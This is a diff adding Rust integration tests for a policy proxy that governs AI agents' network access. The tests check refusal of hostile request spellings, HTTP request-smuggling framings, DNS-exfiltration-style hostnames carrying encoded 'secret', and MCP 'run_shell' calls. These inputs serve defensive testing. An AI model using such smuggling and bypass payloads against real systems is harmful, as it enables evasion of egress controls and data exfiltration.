@@ -1,0 +1,602 @@
+//! Canonical interpretation through the proxy's sockets: hostile spellings of bodies and paths,
+//! the decision API agreeing with the proxy, no DNS lookup before a decision, network verdicts
+//! on explicit-proxy requests and tunnels, and message framing on keep-alive connections.
+
+use super::*;
+use crate::proxy::canonical::tests::{gzip, zlib};
+
+/// Standard base64, for `body_base64`.
+fn b64(data: &[u8]) -> String {
+    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let mut out = String::new();
+    for chunk in data.chunks(3) {
+        let n = chunk
+            .iter()
+            .enumerate()
+            .fold(0u32, |n, (i, &b)| n | u32::from(b) << (16 - 8 * i));
+        for i in 0..=chunk.len() {
+            out.push(char::from(A[(n >> (18 - 6 * i) & 63) as usize]));
+        }
+        for _ in chunk.len()..3 {
+            out.push('=');
+        }
+    }
+    out
+}
+
+/// A raw HTTP/1.1 request with a Content-Length (and `Connection: close`).
+fn raw(method: &str, target: &str, headers: &[(&str, &str)], body: &[u8]) -> Vec<u8> {
+    let mut out = format!("{method} {target} HTTP/1.1\r\n");
+    for (k, v) in headers {
+        out.push_str(&format!("{k}: {v}\r\n"));
+    }
+    out.push_str(&format!(
+        "content-length: {}\r\nconnection: close\r\n\r\n",
+        body.len()
+    ));
+    let mut out = out.into_bytes();
+    out.extend_from_slice(body);
+    out
+}
+
+/// One response's head and body, from a keep-alive connection.
+async fn read_response(s: &mut TcpStream) -> String {
+    let mut buf = Vec::new();
+    let mut b = [0u8; 1];
+    while !buf.ends_with(b"\r\n\r\n") {
+        match tokio::time::timeout(Duration::from_secs(10), s.read(&mut b)).await {
+            Ok(Ok(1)) => buf.push(b[0]),
+            _ => return String::from_utf8_lossy(&buf).into_owned(),
+        }
+    }
+    let head = String::from_utf8_lossy(&buf).to_ascii_lowercase();
+    let len: usize = head
+        .lines()
+        .find_map(|l| l.strip_prefix("content-length:"))
+        .and_then(|v| v.trim().parse().ok())
+        .unwrap_or(0);
+    let mut body = vec![0u8; len];
+    let _ = tokio::time::timeout(Duration::from_secs(10), s.read_exact(&mut body)).await;
+    buf.extend(body);
+    String::from_utf8_lossy(&buf).into_owned()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn hostile_bodies_and_paths_are_refused_or_decided_as_canonical() {
+    let up = upstream("payments").await;
+    let h = start(config(), examples(), Limits::default()).await;
+    let me = h.agent("agents/refund-c1", None, Some(up.addr));
+    let host = ("host", "api.payments.example");
+    let json = ("content-type", "application/json");
+    let five_thousand = br#"{"amount": 5000}"#;
+    // (what, request, status the proxy answers, rule)
+    let cases: Vec<(&str, Vec<u8>, u16, &str)> = vec![
+        (
+            "gzip",
+            raw(
+                "POST",
+                "/v1/refunds",
+                &[host, json, ("content-encoding", "gzip")],
+                &gzip(five_thousand),
+            ),
+            403,
+            "refund-agent/refund-large",
+        ),
+        (
+            "deflate",
+            raw(
+                "POST",
+                "/v1/refunds",
+                &[host, json, ("content-encoding", "deflate")],
+                &zlib(five_thousand),
+            ),
+            403,
+            "refund-agent/refund-large",
+        ),
+        (
+            "br",
+            raw(
+                "POST",
+                "/v1/refunds",
+                &[host, json, ("content-encoding", "br")],
+                b"\x0b\x02\x80",
+            ),
+            415,
+            "builtin:body",
+        ),
+        (
+            "text/plain",
+            raw(
+                "POST",
+                "/v1/refunds",
+                &[host, ("content-type", "text/plain")],
+                five_thousand,
+            ),
+            403,
+            "refund-agent/refund-large",
+        ),
+        (
+            "duplicate keys",
+            raw(
+                "POST",
+                "/v1/refunds",
+                &[host, json],
+                br#"{"amount": 50, "amount": 5000}"#,
+            ),
+            400,
+            "builtin:invalid-json",
+        ),
+        (
+            "numeric string",
+            raw(
+                "POST",
+                "/v1/refunds",
+                &[host, json],
+                br#"{"amount": "5000"}"#,
+            ),
+            403,
+            "refund-agent/refund-large",
+        ),
+        (
+            "hex string",
+            raw(
+                "POST",
+                "/v1/refunds",
+                &[host, json],
+                br#"{"amount": "0x1388"}"#,
+            ),
+            400,
+            "builtin:body",
+        ),
+        (
+            "charset",
+            raw(
+                "POST",
+                "/v1/refunds",
+                &[host, ("content-type", "application/json; charset=utf-16le")],
+                five_thousand,
+            ),
+            415,
+            "builtin:body",
+        ),
+        (
+            "form",
+            raw(
+                "POST",
+                "/v1/refunds",
+                &[host, ("content-type", "application/x-www-form-urlencoded")],
+                b"amount=5000",
+            ),
+            415,
+            "builtin:body",
+        ),
+        (
+            "query field",
+            raw(
+                "POST",
+                "/v1/refunds?amount=5000",
+                &[host, json],
+                br#"{"amount": 50}"#,
+            ),
+            400,
+            "builtin:body",
+        ),
+        (
+            "case and trailing slash",
+            raw("POST", "/V1/Refunds/", &[host, json], five_thousand),
+            403,
+            "refund-agent/refund-large",
+        ),
+        (
+            "encoded unreserved and double slash",
+            raw("POST", "/v1//%72efunds", &[host, json], five_thousand),
+            403,
+            "refund-agent/refund-large",
+        ),
+        (
+            "encoded slash",
+            raw("POST", "/v1%2Frefunds", &[host, json], five_thousand),
+            400,
+            "builtin:request",
+        ),
+        (
+            "path parameter",
+            raw("POST", "/v1/refunds;x=1", &[host, json], five_thousand),
+            400,
+            "builtin:request",
+        ),
+        (
+            "overlong dot",
+            raw(
+                "POST",
+                "/v1/x/%C0%AE%C0%AE/refunds",
+                &[host, json],
+                five_thousand,
+            ),
+            400,
+            "builtin:request",
+        ),
+    ];
+    for (what, req, status, rule) in cases {
+        let r = h.raw(me, &req).await;
+        assert!(r.starts_with(&format!("HTTP/1.1 {status}")), "{what}: {r}");
+        assert!(r.contains(rule), "{what}: {r}");
+        if status != 200 {
+            let rec = h.last_record(|x| x.kind == "http");
+            assert_eq!(rec.rule, rule, "{what}");
+            assert!(rec.denied, "{what}");
+        }
+    }
+    assert!(
+        up.seen.lock().unwrap().is_empty(),
+        "nothing reached the upstream: {:?}",
+        up.seen.lock().unwrap()
+    );
+    // A small gzip refund is decided on its decoded body and forwarded as sent.
+    let r = h
+        .raw(
+            me,
+            &raw(
+                "POST",
+                "/v1/refunds",
+                &[host, json, ("content-encoding", "gzip")],
+                &gzip(br#"{"amount": 50}"#),
+            ),
+        )
+        .await;
+    assert!(r.starts_with("HTTP/1.1 200"), "{r}");
+    let seen = up.seen.lock().unwrap()[0].clone();
+    assert_eq!(seen["headers"]["content-encoding"], "gzip");
+    // On an MCP endpoint a refusal is a JSON-RPC error.
+    let searcher = h.agent("agents/r-c1", Some("research-agent"), Some(up.addr));
+    let batch =
+        r#"[{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"list_tools"}},7]"#;
+    let r = h
+        .raw(
+            searcher,
+            &raw(
+                "POST",
+                "/mcp",
+                &[("host", "mcp.search.example"), json],
+                batch.as_bytes(),
+            ),
+        )
+        .await;
+    assert!(r.starts_with("HTTP/1.1 400"), "{r}");
+    assert!(r.contains("-32600") && r.contains("builtin:jsonrpc"), "{r}");
+    h.assert_no_panics();
+}
+
+/// The proxy's verdict and rule for a raw request: from its first decision record (a held
+/// request is withdrawn when the connection goes).
+async fn proxy_verdict(h: &Harness, me: IpAddr, req: &[u8]) -> (String, String) {
+    let before = h.records.lock().unwrap().len();
+    let mut s = h.connect(me).await;
+    s.write_all(req).await.unwrap();
+    let decided = || {
+        h.records.lock().unwrap()[before..]
+            .iter()
+            .find(|r| r.kind == "http")
+            .cloned()
+    };
+    until("the proxy's decision record", || decided().is_some()).await;
+    drop(s);
+    let rec = decided().unwrap();
+    (rec.verdict, rec.rule)
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_decision_api_and_the_proxy_agree_on_hostile_inputs() {
+    let up = upstream("payments").await;
+    let h = start(config(), examples(), Limits::default()).await;
+    let refunds = h.agent("agents/refund-c2", None, Some(up.addr));
+    let searcher = h.agent("agents/r-c2", Some("research-agent"), Some(up.addr));
+    let json = ("content-type", "application/json");
+    let pay = "api.payments.example";
+    let mcp = "mcp.search.example";
+    let call = |tool: &str, method: &str| {
+        format!(
+            r#"{{"jsonrpc":"2.0","id":1,"method":"{method}","params":{{"name":"{tool}","arguments":{{"url":"http://x"}}}}}}"#
+        )
+        .into_bytes()
+    };
+    let utf16: Vec<u8> = r#"{"amount": 5000}"#.encode_utf16().flat_map(u16::to_le_bytes).collect();
+    // (agent, host, method, path and query, headers, body)
+    type Input<'a> = (
+        IpAddr,
+        &'a str,
+        &'a str,
+        &'a str,
+        Vec<(&'a str, &'a str)>,
+        Vec<u8>,
+    );
+    let inputs: Vec<Input<'_>> = vec![
+        (refunds, pay, "POST", "/v1/refunds", vec![json], br#"{"amount": 50}"#.to_vec()),
+        (refunds, pay, "POST", "/v1/refunds", vec![json], br#"{"amount": 500}"#.to_vec()),
+        (refunds, pay, "POST", "/v1/refunds", vec![json], br#"{"amount": 5000}"#.to_vec()),
+        (refunds, pay, "POST", "/v1/refunds", vec![json], br#"{"amount": 50, "amount": 5000}"#.to_vec()),
+        (refunds, pay, "POST", "/v1/refunds", vec![json], br#"{"amount": "5000"}"#.to_vec()),
+        (refunds, pay, "POST", "/v1/refunds", vec![json], br#"{"amount": "0x1388"}"#.to_vec()),
+        (refunds, pay, "POST", "/v1/refunds", vec![json], br#"{"Amount": 5000}"#.to_vec()),
+        (refunds, pay, "POST", "/v1/refunds", vec![json], br#"[{"amount": 5000}]"#.to_vec()),
+        (refunds, pay, "POST", "/v1/refunds", vec![json, ("content-encoding", "gzip")], gzip(br#"{"amount": 5000}"#)),
+        (refunds, pay, "POST", "/v1/refunds", vec![json, ("content-encoding", "gzip")], gzip(br#"{"amount": 50}"#)),
+        (refunds, pay, "POST", "/v1/refunds", vec![json, ("content-encoding", "br")], vec![1, 2, 3]),
+        (refunds, pay, "POST", "/v1/refunds", vec![json], utf16),
+        (refunds, pay, "POST", "/v1/refunds", vec![("content-type", "text/plain")], br#"{"amount": 5000}"#.to_vec()),
+        (refunds, pay, "POST", "/v1/refunds", vec![("content-type", "application/x-www-form-urlencoded")], b"amount=5000".to_vec()),
+        (refunds, pay, "POST", "/v1/refunds?amount=5000", vec![json], br#"{"amount": 50}"#.to_vec()),
+        (refunds, pay, "POST", "/V1/Refunds/", vec![json], br#"{"amount": 5000}"#.to_vec()),
+        (refunds, pay, "POST", "/v1/%72efunds", vec![json], br#"{"amount": 5000}"#.to_vec()),
+        (refunds, pay, "POST", "/v1%2Frefunds", vec![json], br#"{"amount": 5000}"#.to_vec()),
+        (refunds, pay, "POST", "/v1/refunds;a=1", vec![json], br#"{"amount": 5000}"#.to_vec()),
+        (refunds, pay, "POST", "/v1/refunds", vec![json, ("x-http-method-override", "GET")], br#"{"amount": 50}"#.to_vec()),
+        (refunds, pay, "GET", "/v1/balance", vec![], vec![]),
+        (searcher, mcp, "POST", "/mcp", vec![json], call("run_shell", "tools/call")),
+        (searcher, mcp, "POST", "/mcp", vec![json], call("run_shell", "Tools/Call")),
+        (searcher, mcp, "POST", "/mcp", vec![json], call("fetch_url", "tools/call")),
+        (searcher, mcp, "POST", "/mcp", vec![json], call("web_search", "tools/call")),
+        (searcher, mcp, "POST", "/mcp", vec![json], br#"[{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"web_search"}}, 5]"#.to_vec()),
+        (searcher, mcp, "POST", "/mcp", vec![json], br#"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":["run_shell"]}"#.to_vec()),
+        (searcher, mcp, "POST", "/mcp", vec![json], b"{nope".to_vec()),
+    ];
+    let count = inputs.len();
+    for (agent, host, method, path, headers, body) in inputs {
+        let mut with_host = vec![("host", host)];
+        with_host.extend(headers.iter().copied());
+        let proxied = proxy_verdict(&h, agent, &raw(method, path, &with_host, &body)).await;
+        let action = DecideAction::Http {
+            http: HttpAction {
+                method: method.into(),
+                url: format!("http://{host}{path}"),
+                headers: headers
+                    .iter()
+                    .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
+                    .collect(),
+                body: None,
+                body_base64: (!body.is_empty()).then(|| b64(&body)),
+            },
+        };
+        let d = h.proxy.preauthorize(&client_of(&h, agent), action);
+        assert_eq!(
+            (d.verdict.as_str(), d.rule.as_str()),
+            (proxied.0.as_str(), proxied.1.as_str()),
+            "{method} {host}{path} {headers:?} {}: {}",
+            String::from_utf8_lossy(&body),
+            d.reason
+        );
+    }
+    assert!(count >= 28);
+    // Through the decision API as JSON too: a duplicate key in the action is refused.
+    let ask = |action: &str| {
+        Request::post(DECIDE_PATH)
+            .header("host", "127.0.0.1:15001")
+            .body(Full::new(Bytes::from(action.to_owned())))
+            .unwrap()
+    };
+    let r = h
+        .send(
+            refunds,
+            ask(r#"{"http": {"method": "POST", "url": "http://api.payments.example/v1/refunds", "body": {"amount": 50, "amount": 5000}}}"#),
+        )
+        .await;
+    assert_eq!(r.status, StatusCode::BAD_REQUEST, "{}", r.body);
+    assert!(
+        r.body["reason"].as_str().unwrap().contains("duplicate key"),
+        "{}",
+        r.body
+    );
+    h.assert_no_panics();
+}
+
+const DNS_POLICY: &str = r#"
+name: dns
+agents: { cgroup: agents/dns-* }
+defaults: { http: block }
+rules:
+  - { id: local, http: { host: localhost }, verdict: allow, reason: The only name allowed. }
+"#;
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn names_the_agent_chose_are_not_looked_up_before_a_decision() {
+    let up = upstream("local").await;
+    let h = start(config(), parse(DNS_POLICY), Limits::default()).await;
+    let transparent = h.agent("agents/dns-1", None, Some(up.addr));
+    let explicit = h.agent("agents/dns-2", None, None);
+    let port = up.addr.port();
+
+    // Transparent: a Host the policy blocks is refused without a lookup.
+    let r = h
+        .raw(
+            transparent,
+            b"GET /x HTTP/1.1\r\nHost: c2VjcmV0.exfil-1.invalid\r\nConnection: close\r\n\r\n",
+        )
+        .await;
+    assert!(r.starts_with("HTTP/1.1 403"), "{r}");
+    assert!(r.contains("\"rule\":\"default\""), "{r}");
+    // Explicit: an absolute-form request and a CONNECT.
+    let r = h
+        .raw(
+            explicit,
+            b"GET http://c2VjcmV0.exfil-2.invalid/x HTTP/1.1\r\nHost: c2VjcmV0.exfil-2.invalid\r\nConnection: close\r\n\r\n",
+        )
+        .await;
+    assert!(r.starts_with("HTTP/1.1 403"), "{r}");
+    let r = h
+        .raw(
+            explicit,
+            b"CONNECT c2VjcmV0.exfil-3.invalid:443 HTTP/1.1\r\nHost: c2VjcmV0.exfil-3.invalid:443\r\n\r\n",
+        )
+        .await;
+    assert!(r.starts_with("HTTP/1.1 403"), "{r}");
+    // TLS: the server name the agent chose.
+    let mut s = h.connect(transparent).await;
+    s.write_all(&client_hello("c2VjcmV0.exfil-4.invalid", true))
+        .await
+        .unwrap();
+    let r = read_all(&mut s, Duration::from_secs(10)).await;
+    assert_eq!(r.as_bytes(), ACCESS_DENIED);
+    let rec = h.last_record(|r| r.object.url.contains("exfil-4"));
+    assert_eq!(
+        (rec.verdict.as_str(), rec.rule.as_str()),
+        ("block", "default")
+    );
+    let looked = h.proxy.upstream.looked_up();
+    assert!(
+        !looked.iter().any(|n| n.contains("exfil")),
+        "names looked up before a decision: {looked:?}"
+    );
+
+    // A name the policy allows is looked up, once it is allowed, for the host check.
+    let r = h
+        .raw(
+            transparent,
+            format!("GET /x HTTP/1.1\r\nHost: localhost:{port}\r\nConnection: close\r\n\r\n")
+                .as_bytes(),
+        )
+        .await;
+    let looked = h.proxy.upstream.looked_up();
+    assert_eq!(looked, vec!["localhost".to_owned()], "{r}");
+    h.assert_no_panics();
+}
+
+const NET_POLICY: &str = r#"
+name: net
+agents: { cgroup: agents/net-* }
+sandbox_profiles:
+  scratch: { network: none, writable: [/tmp] }
+rules:
+  - id: metered
+    network: { cidr: 127.0.0.1/32, ports: PORT_T }
+    verdict: throttle
+    throttle: { rate: 1, per: 1h }
+    reason: One connection an hour.
+  - id: held
+    network: { cidr: 127.0.0.1/32, ports: PORT_E }
+    verdict: escalate
+    escalate: { timeout: 1m }
+    reason: A human decides.
+  - id: boxed
+    network: { cidr: 127.0.0.1/32, ports: PORT_S }
+    verdict: sandbox
+    sandbox: { profile: scratch }
+    reason: Sandboxed processes only.
+"#;
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn explicit_requests_and_tunnels_honour_every_network_verdict() {
+    let metered = upstream("metered").await;
+    let held = upstream("held").await;
+    let boxed = upstream("boxed").await;
+    let yaml = NET_POLICY
+        .replace("PORT_T", &metered.addr.port().to_string())
+        .replace("PORT_E", &held.addr.port().to_string())
+        .replace("PORT_S", &boxed.addr.port().to_string());
+    let h = Arc::new(start(config(), parse(&yaml), Limits::default()).await);
+    let me = h.agent("agents/net-1", None, None);
+    let get = |port: u16| {
+        Request::get(format!("http://api.payments.example:{port}/x"))
+            .body(Full::new(Bytes::new()))
+            .unwrap()
+    };
+    let connect = |port: u16| {
+        format!(
+            "CONNECT api.payments.example:{port} HTTP/1.1\r\nHost: api.payments.example:{port}\r\n\r\n"
+        )
+    };
+
+    // throttle: the first connection passes, the next is 429, for requests and tunnels alike.
+    let r = h.send(me, get(metered.addr.port())).await;
+    assert_eq!(r.body["upstream"], "metered", "{}", r.body);
+    let r = h.send(me, get(metered.addr.port())).await;
+    assert_eq!(r.status, StatusCode::TOO_MANY_REQUESTS, "{}", r.body);
+    assert_eq!(r.body["rule"], "net/metered");
+    assert!(r.header("retry-after").parse::<u64>().unwrap() >= 1);
+    let rec = h.record(r.body["decision_id"].as_str().unwrap());
+    assert_eq!(
+        (rec.object.dest.as_str(), rec.object.protocol.as_str()),
+        (metered.addr.to_string().as_str(), "tcp")
+    );
+    let r = h.raw(me, connect(metered.addr.port()).as_bytes()).await;
+    assert!(r.starts_with("HTTP/1.1 429"), "{r}");
+
+    // sandbox with a profile: the proxy cannot sandbox the agent's process; blocked.
+    let r = h.send(me, get(boxed.addr.port())).await;
+    assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.body);
+    assert_eq!(r.body["rule"], "net/boxed");
+    assert!(
+        r.body["reason"]
+            .as_str()
+            .unwrap()
+            .contains("sandbox profile `scratch`")
+    );
+    let r = h.raw(me, connect(boxed.addr.port()).as_bytes()).await;
+    assert!(r.starts_with("HTTP/1.1 403"), "{r}");
+    assert!(boxed.seen.lock().unwrap().is_empty());
+
+    // escalate: held until a human decides; approved → forwarded, denied → 403.
+    let approvals = h.approvals.clone();
+    let approver = tokio::spawn(async move {
+        until("the connection to be held for approval", || {
+            approvals.list().len() == 1
+        })
+        .await;
+        let p = approvals.list()[0].clone();
+        assert_eq!(p.rule, "net/held");
+        approvals
+            .approve(&p.id, "alice", Duration::from_secs(60))
+            .unwrap();
+    });
+    let r = h.send(me, get(held.addr.port())).await;
+    approver.await.unwrap();
+    assert_eq!(r.body["upstream"], "held", "{}", r.body);
+    let approvals = h.approvals.clone();
+    tokio::spawn(async move {
+        until("the tunnel to be held for approval", || {
+            approvals.list().len() == 1
+        })
+        .await;
+        let id = approvals.list()[0].id.clone();
+        approvals.deny(&id, "bob", "not today").unwrap();
+    });
+    let r = h.raw(me, connect(held.addr.port()).as_bytes()).await;
+    assert!(r.starts_with("HTTP/1.1 403"), "{r}");
+    assert!(r.contains("denied by bob: not today"), "{r}");
+    h.assert_no_panics();
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn framing_tricks_are_refused_on_any_request_of_a_connection() {
+    let up = upstream("payments").await;
+    let h = start(config(), examples(), Limits::default()).await;
+    let me = h.agent("agents/refund-c3", None, Some(up.addr));
+    let ok = "POST /v1/refunds HTTP/1.1\r\nHost: api.payments.example\r\nContent-Type: application/json\r\nContent-Length: 14\r\n\r\n{\"amount\": 50}";
+    let get = "GET /v1/x HTTP/1.1\r\nHost: api.payments.example\r\n\r\n";
+    let smuggle = "POST /v1/refunds HTTP/1.1\r\nHost: api.payments.example\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n";
+    let two_cl = "POST /v1/refunds HTTP/1.1\r\nHost: api.payments.example\r\nContent-Length: 14\r\nContent-Length: 14\r\n\r\n{\"amount\": 50}";
+    let cl_list = "POST /v1/refunds HTTP/1.1\r\nHost: api.payments.example\r\nContent-Length: 14, 14\r\n\r\n{\"amount\": 50}";
+    for (what, second) in [
+        ("CL+TE", smuggle),
+        ("two equal Content-Lengths", two_cl),
+        ("a Content-Length list", cl_list),
+    ] {
+        // The second request of a keep-alive connection, after an answered first one.
+        let mut s = h.connect(me).await;
+        s.write_all(ok.as_bytes()).await.unwrap();
+        let first = read_response(&mut s).await;
+        assert!(first.starts_with("HTTP/1.1 200"), "{what}: {first}");
+        s.write_all(second.as_bytes()).await.unwrap();
+        let r = read_all(&mut s, Duration::from_secs(10)).await;
+        assert!(r.starts_with("HTTP/1.1 400"), "{what}, second request: {r}");
+        // The third of a pipelined sequence (a GET first, without a length).
+        let r = h.raw(me, format!("{get}{ok}{second}").as_bytes()).await;
+        let statuses: Vec<&str> = r
+            .match_indices("HTTP/1.1 ")
+            .map(|(i, _)| &r[i + 9..i + 12])
+            .collect();
+        assert_eq!(statuses, ["403", "200", "400"], "{what}, pipelined: {r}");
+    }
+    // Only the allowed refunds went upstream (two per round).
+    assert_eq!(up.seen.lock().unwrap().len(), 6);
+    h.assert_no_panics();
+}
